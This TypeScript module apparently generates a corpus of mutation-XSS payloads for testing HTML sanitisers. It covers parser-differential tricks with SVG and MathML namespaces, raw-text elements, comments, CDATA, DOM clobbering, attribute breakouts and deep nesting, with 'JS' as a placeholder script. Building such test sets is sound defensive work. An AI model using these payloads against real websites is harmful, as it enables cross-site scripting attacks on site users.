const words = (text: string): string[] => text.trim().split(/\s+/);
const list = (text: string): string[] => text.trim().split(/\s*\n\s*/);

// What looks like an attribute to the parser of a sanitiser and like an element to that of a browser.
const inside = (raw: string): string => `<${raw}><a title="</${raw}><img src=x onerror=JS>">x</a>`;
const rawTexts = words('style xmp noscript noembed noframes iframe textarea title script plaintext template select');
const foreign = words('svg math');
const points = words('mtext mi mo mn ms annotation-xml foreignObject desc title mglyph malignmark p table');

const confused = [
  ...rawTexts.map(inside),
  ...foreign.flatMap((outer) => rawTexts.map((raw) => `<${outer}>${inside(raw)}</${outer}>`)),
  ...foreign.flatMap((outer) =>
    points.flatMap((point) => ['style', 'title'].map((raw) => `<${outer}><${point}>${inside(raw)}</${point}></${outer}>`)),
  ),
  ...words('text/html application/xhtml+xml TEXT/HTML').map(
    (kind) => `<math><annotation-xml encoding="${kind}">${inside('style')}</annotation-xml></math>`,
  ),
];

const shaped = list(String.raw`
  <form><math><mtext></form><form><mglyph><style></math><img src=x onerror="JS">
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;">
  <math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror="JS">
  <svg></p><style><a id="</style><img src=x onerror=JS>">
  <svg><p><style><a id="</style><img src=x onerror=JS>"></p></svg>
  <svg><desc><svg><image><a><desc><svg><image></image></svg></desc></a><style><a id="</style><img src=x onerror=JS>"></a></style>
  <math><mi><style><!--</style></mi></math><img title="--&gt;&lt;/mi&gt;&lt;/math&gt;&lt;img src=x onerror=JS&gt;">
  <table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=JS>"></a></style></svg></caption></table>
  <a><table><td><a><table></table><style><!--</style><img src=x onerror="JS">-->
  <form id=x><input form=x name=attributes><input form=x name=parentNode><img src=x onerror="JS"></form>
  <form><input name=nodeName><input name=removeChild><input name=innerHTML><img src=x onerror="JS"></form>
  <form><input name=attributes tabindex=1 onfocus="JS" autofocus></form>
  <img name=implementation><img name=createNodeIterator><img src=x onerror="JS">
  <a id=documentElement name=body href="cid:JS">x</a><img src=x onerror="JS">
  <iframe name=defaultView srcdoc="<a id=x href=javascript:JS>x</a>"></iframe>
  <select><option><style></option></select><img src=x onerror="JS"></style>
  <select><template><style><!--</template></select><img src=x onerror="JS">-->
  <select><iframe></select><img src=x onerror="JS"></iframe>
  <noscript><p title="</noscript><img src=x onerror=JS>">x</p></noscript>
  <noscript><style></noscript><img src=x onerror="JS"></style>
  <noembed><img title="</noembed><img src=x onerror=JS>"></noembed>
  <xmp><svg><b><p title="</xmp><img src=x onerror=JS>"></xmp>
  <listing>&lt;img src=x onerror=JS&gt;</listing>
  <plaintext><img src=x onerror="JS">
  <title><a href="</title><img src=x onerror=JS>">x</a></title>
  <textarea><img title="</textarea><img src=x onerror=JS>"></textarea>
  <!--><img src=x onerror="JS">-->
  <!---><img src=x onerror="JS">-->
  <!--x--!><img src=x onerror="JS">-->
  <!--<!--x--><img src=x onerror="JS">-->
  <!-- ${'`'}--><img src=x onerror="JS">
  <!x><img src=x onerror="JS">
  <?x ><img src=x onerror="JS">?>
  </x ><img src=x onerror="JS">
  <![CDATA[><img src=x onerror="JS">]]>
  <svg><![CDATA[><img src=x onerror="JS">]]></svg>
  <svg><![CDATA[</svg><img src=x onerror="JS">]]></svg>
  <math><![CDATA[><img src=x onerror="JS">]]></math>
  <svg><style><![CDATA[</style><img src=x onerror="JS">]]></style></svg>
  <svg><style>&lt;img src=x onerror=JS&gt;</style></svg>
  <svg><style>&lt;/style&gt;&lt;img src=x onerror=JS&gt;</style></svg>
  <svg><title>&lt;/title&gt;&lt;img src=x onerror=JS&gt;</title></svg>
  <math><style>&lt;img src=x onerror=JS&gt;</style></math>
  <template><img src=x onerror="JS"></template>
  <template><template><script>JS</script></template></template>
  <template><style></template><img src=x onerror="JS"></style>
  <div is="x" onclick="JS"><b is=y onmouseover="JS">x</b></div>
  <b/><i/><svg/><p title="<!--"><img src=x onerror="JS"></p>-->
  <p id="<img src=x onerror=JS>">x</p>
  <p title="&lt;img src=x onerror=JS&gt;">x</p>
  <img alt="${'`'}onerror=JS//" src=x>
  <img alt="${'`'}${'`'} onerror=JS" src=x>
  <p title=${'`'} onmouseover=JS ${'`'}>x</p>
  <div style="font-family:'foo&#92;27&#59;x:expression(JS)&#59;y:&#39;'">x</div>
  <div style="x:\22 onmouseover=JS y">x</div>
  <font face="x&quot; onmouseover=&quot;JS">x</font>
  <td colspan="1&quot; onmouseover=&quot;JS">x</td>
  <a href="http://x.example/&quot; onmouseover=&quot;JS">x</a>
  <a href="http://x.example/?&quot;><img src=x onerror=JS>">x</a>
  <a href="mailto:a@b.example?subject=&quot;><img src=x onerror=JS>">x</a>
  <a href="http://a&quot; onmouseover=&quot;JS@x.example/">www.x.example</a>
  <a href="http://[::1&quot; onmouseover=JS]/">x</a>
  <a href="tel:&quot; onmouseover=&quot;JS">x</a>
  &lt;img src=x onerror=JS&gt;
  &amp;lt;img src=x onerror=JS&amp;gt;
  &lt;script&gt;JS&lt;/script&gt;
  ＜img src=x onerror=JS＞
  %3Cimg src=x onerror=JS%3E
  <table><img src=x onerror="JS"></table>
  <table><tr><td><table><tr><svg><style><img src=x onerror="JS"></style></svg></table></table>
  <b><p><b><p><svg><style><b title="</style><img src=x onerror=JS>">
  <svg><a><foreignObject><style><!--</style><a title="--><img src=x onerror=JS>"></a>
  <math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=JS>"></style></h1>
  <math><mtext><option><unknown><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=JS>">
  <math><annotation-xml encoding="text/html"><p><svg><style><a title="</style></p></annotation-xml></math><img src=x onerror=JS>">
  <html><head><title><body onload="JS"></title></head><body><p onclick="JS">x</p></body></html>
  <body><body onload="JS" style="background:url(http://HOST/a)"><p>x</p>
  <body style="x:&quot;&gt;&lt;img src=x onerror=JS&gt;" bgcolor="&quot; onload=&quot;JS" text="red;background:url(http://HOST/a)">x</body>
  <style>.x{color:red"onmouseover=JS}</style><body><p class=x>x</p></body>
  <style>p{color:red}--></style><body><p>x</p><img src=x onerror="JS"></body>
  <style>p{font-family:"</style><img src=x onerror=JS>"}</style><body><p>x</p></body>
  <style>p{font-family:'"><img src=x onerror=JS>'}</style><body><p>x</p></body>
  <style><!--</style><body><p title="--><img src=x onerror=JS>">x</p></body>
  <style>/*</style><body><p>x</p><img src=x onerror="JS">*/</body>
`);

// Parsers stop at some depth, and what comes after is somewhere else on the second reading.
const deep = [250, 505, 509, 512].flatMap((depth) => [
  `${'<div>'.repeat(depth)}<svg><style><a id="</style><img src=x onerror=JS>"></svg>${'</div>'.repeat(depth)}`,
  `${'<font>'.repeat(depth)}<math><mtext><style><!--</style><img title="--&gt;&lt;img src=x onerror=JS&gt;"></math>`,
]);

export const mutations: readonly string[] = [...confused, ...shaped, ...deep];
